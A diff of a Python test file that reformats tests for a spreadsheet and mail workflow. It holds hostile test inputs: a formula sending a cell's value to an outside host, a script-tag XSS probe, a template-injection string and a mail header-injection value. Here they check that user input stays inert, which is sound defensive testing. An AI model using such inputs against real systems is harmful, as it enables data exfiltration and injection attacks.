@@ -8,7 +8,7 @@ from office import Office, part
 from small_town import WARDS
 
 IMPORT = '=IMPORTXML("https://example.org/?q=" & A1; "//a")'
-MARKUP = "<script>alert(1)</script><b>đậm</b> & \"nháy\""
+MARKUP = '<script>alert(1)</script><b>đậm</b> & "nháy"'
 
 
 def decide(office: Office, unit: str, **columns: str) -> None:
@@ -96,7 +96,9 @@ def test_a_ward_s_rows_sorted_by_a_person_are_followed(published: Office) -> Non
         "sheetId": place.grid.sheet_id, "startRowIndex": rows[0] - 1, "endRowIndex": rows[-1],
         "startColumnIndex": 0, "endColumnIndex": 6,
     }  # fmt: skip
-    published.batch("P4", {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]}})
+    published.batch(
+        "P4", {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]}}
+    )
     assert published.place("P4", "appendix").rows["S1"] > published.place("P4", "appendix").rows["S2"]
     assert published.sync()["cells_changed"] == 0
 
@@ -168,7 +170,9 @@ def test_in_the_exported_master_a_typed_formula_is_a_string(published: Office) -
     assert {cell.data_type for cell in cells} == {"s"}
 
 
-@pytest.mark.parametrize("text", [MARKUP, "{{ 7 * 7 }} {% raw %}", "a\r\nBcc: x@example.org\r\n\r\nxin chào", "[x](y) [bold]"])
+@pytest.mark.parametrize(
+    "text", [MARKUP, "{{ 7 * 7 }} {% raw %}", "a\r\nBcc: x@example.org\r\n\r\nxin chào", "[x](y) [bold]"]
+)
 def test_what_people_type_is_never_markup_in_a_mail_nor_a_header(published: Office, text: str) -> None:
     published.type("P4", "self", "1.1", "points", text)
     published.type("TG", "bonus", "1", "unit", text)
